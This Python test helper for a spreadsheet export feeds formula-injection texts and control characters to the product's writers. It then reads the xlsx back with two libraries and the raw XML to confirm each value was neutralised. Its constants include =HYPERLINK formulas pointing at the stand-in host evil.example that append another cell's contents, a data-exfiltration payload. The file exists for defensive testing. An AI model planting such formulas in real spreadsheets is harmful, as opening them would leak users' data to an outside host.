"""What the export tests feed every writer and how they read the file back: texts a spreadsheet program
would run as a formula, control characters that break openpyxl, and a NUL; read back with openpyxl, with
python-calamine and as the sheets' XML, so a formula cannot hide behind one reader's habits."""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass, field

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

# Each hostile text, as the writer must put it in the cell.
# The first fits a 50-character name column (PostgreSQL enforces the length; SQLite does not).
FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&R2,"点击查看")': (
        '\'=HYPERLINK("http://evil.example/?d="&R2,"点击查看")'
    ),
    "+1+1": "'+1+1",
    "-1+1": "'-1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "=1+1": "'=1+1",
}
CONTROLS = {"路灯\x0b不亮": "路灯不亮", "门口\x1b积水": "门口积水", "噪音\x00扰民": "噪音扰民"}
HOSTILE = {**FORMULAS, **CONTROLS}
# One text carrying every kind at once (a formula after a control character is still a formula).
MIXED = '\x0b=HYPERLINK("http://evil.example/")\x00\x1b'
MIXED_WRITTEN = '\'=HYPERLINK("http://evil.example/")'

_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


@dataclass
class ReadBack:
    """Every text cell of the file as (sheet, coordinate) → text, from both readers."""

    openpyxl: dict[tuple[str, str], str] = field(default_factory=dict)
    calamine: dict[tuple[str, int, int], str] = field(default_factory=dict)

    def texts(self) -> set[str]:
        return set(self.openpyxl.values())


def read_back(content: bytes) -> ReadBack:
    """Reads an xlsx the product wrote and fails on any formula cell, any cell that is not plain text or a
    number, any control character, any text starting like a formula; returns the texts for the caller's
    own checks."""
    out = ReadBack()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"a formula element in {name}"
                assert 't="e"' not in xml, f"an error-typed cell in {name}"
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}: {cell.data_type}"
                    _check_text(cell.value, f"{ws.title}!{cell.coordinate}")
                    out.openpyxl[(ws.title, cell.coordinate)] = cell.value
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    for name in book.sheet_names:
        for r, values in enumerate(book.get_sheet_by_name(name).to_python()):
            for c, value in enumerate(values):
                if isinstance(value, str) and value:
                    _check_text(value, f"{name}[{r},{c}] (calamine)")
                    out.calamine[(name, r, c)] = value
    assert set(out.calamine.values()) == set(out.openpyxl.values()), "the two readers read other texts"
    return out


def _check_text(text: str, where: str) -> None:
    assert not _CONTROL.search(text), f"{where} holds a control character: {text!r}"
    assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), f"{where} starts like a formula: {text!r}"


def assert_written_safely(content: bytes, *written: str) -> ReadBack:
    """``read_back`` and: each hostile text given (a key of HOSTILE, or MIXED) is in the file as it must be
    written (the value in HOSTILE): a formula at the start of a cell, a cleaned text anywhere in one."""
    back = read_back(content)
    texts = back.texts()
    for text in written:
        expected = MIXED_WRITTEN if text == MIXED else HOSTILE[text]
        found = any(
            t.startswith(expected) if text == MIXED or text in FORMULAS else expected in t for t in texts
        )
        assert found, f"{expected!r} not in the file: {sorted(texts)[:40]}"
    return back
